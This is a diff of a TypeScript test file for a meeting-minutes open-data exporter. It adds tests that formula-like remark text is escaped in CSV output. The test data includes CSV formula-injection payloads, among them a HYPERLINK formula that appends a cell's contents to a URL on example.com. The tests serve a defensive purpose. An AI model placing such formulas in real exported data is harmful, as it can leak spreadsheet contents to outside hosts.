@@ -9,11 +9,11 @@ import { parse as parseCsv } from 'csv-parse/sync';
 import { describe, expect, test } from 'vitest';
 import { parseMinutes } from '../../src/parser/index.ts';
 import { entryId } from '../../src/converter/entry-id.ts';
-import { archiveJsonChunks, csvChunks, jsonLinesChunks, toMeetingRecord, toRemarkRows } from '../../src/utils/open-data.ts';
-import { archiveSchema, remarkColumns, type Archive } from '../../src/schemas/open-data.ts';
+import { archiveJsonChunks, csvChunks, jsonLinesChunks, neutraliseCsvText, toMeetingRecord, toRemarkRows } from '../../src/utils/open-data.ts';
+import { archiveSchema, remarkColumns, type Archive, type RemarkRow } from '../../src/schemas/open-data.ts';
 
 const SEEDS_DIR = join(import.meta.dirname, '../../seeds');
-const links = { meeting: (id: string) => `/minutes/meetings/${id}/`, source: (file: string) => `/minutes/sources/${file}` };
+const links = { meeting: (id: string) => `/minutes/meetings/${id}/`, source: (id: string, file: string) => `/minutes/sources/${id}${file.slice(file.lastIndexOf('.'))}` };
 const records = readdirSync(SEEDS_DIR)
 	.filter((name) => name.endsWith('.txt'))
 	.sort()
@@ -43,7 +43,10 @@ describe('whole-archive exports in pieces', () => {
 		expect(parsed).toHaveLength(rows.length);
 		expect(rows.length).toBeGreaterThan(100);
 		for (const [index, row] of rows.entries()) {
-			for (const column of remarkColumns) expect(parsed[index]![column], `${index} ${column}`).toBe(row[column] === null ? '' : String(row[column]));
+			for (const column of remarkColumns) {
+				const value = row[column];
+				expect(parsed[index]![column], `${index} ${column}`).toBe(value === null ? '' : typeof value === 'number' ? String(value) : neutraliseCsvText(value));
+			}
 		}
 	});
 
@@ -51,5 +54,29 @@ describe('whole-archive exports in pieces', () => {
 		const lines = [...jsonLinesChunks(groups)].join('').split('\n');
 		expect(lines.pop()).toBe('');
 		expect(lines.map((line) => JSON.parse(line))).toEqual(rows);
+	});
+});
+
+describe('CSV formula injection', () => {
+	const base = rows[0]!;
+	const texts = [
+		{ text: '=HYPERLINK("https://example.com/?q="&A1,"詳細")', csv: `'=HYPERLINK("https://example.com/?q="&A1,"詳細")` },
+		{ text: '+1+1', csv: "'+1+1" },
+		{ text: '-2+3', csv: "'-2+3" },
+		{ text: '@SUM(A1:A2)', csv: "'@SUM(A1:A2)" },
+		{ text: '\t=1', csv: "'\t=1" },
+		{ text: '\r=1', csv: "'\r=1" },
+		{ text: '普通の発言 =1', csv: '普通の発言 =1' },
+		{ text: "'引用符で始まる", csv: "'引用符で始まる" },
+	];
+
+	test.each(texts)('remark $text is written as $csv in the CSV and kept exactly in the JSON Lines', ({ text, csv }) => {
+		const row: RemarkRow = { ...base, text, speaker: text };
+		const parsed = parseCsv([...csvChunks([[row]])].join(''), { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
+		expect(parsed).toHaveLength(1);
+		expect(parsed[0]!['text']).toBe(csv);
+		expect(parsed[0]!['speaker']).toBe(csv);
+		expect(parsed[0]!['order']).toBe(String(base.order));
+		expect(JSON.parse([...jsonLinesChunks([[row]])].join(''))).toEqual(row);
 	});
 });
